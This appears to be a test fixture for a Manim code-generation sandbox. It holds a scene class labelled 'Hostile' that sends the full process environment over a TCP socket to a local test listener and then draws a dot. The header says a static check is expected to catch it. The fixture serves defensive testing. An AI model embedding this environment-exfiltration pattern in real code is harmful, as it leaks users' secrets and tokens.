# expect: static
# what: opens a TCP socket to 127.0.0.1 (port from MANIMGEN_TEST_LISTENER_PORT) and sends the environment
import os
import socket
from manim import *
class Hostile(Scene):
    def construct(self):
        port = int(os.environ.get("MANIMGEN_TEST_LISTENER_PORT", "1"))
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(repr(dict(os.environ)).encode())
        s.close()
        self.add(Dot())
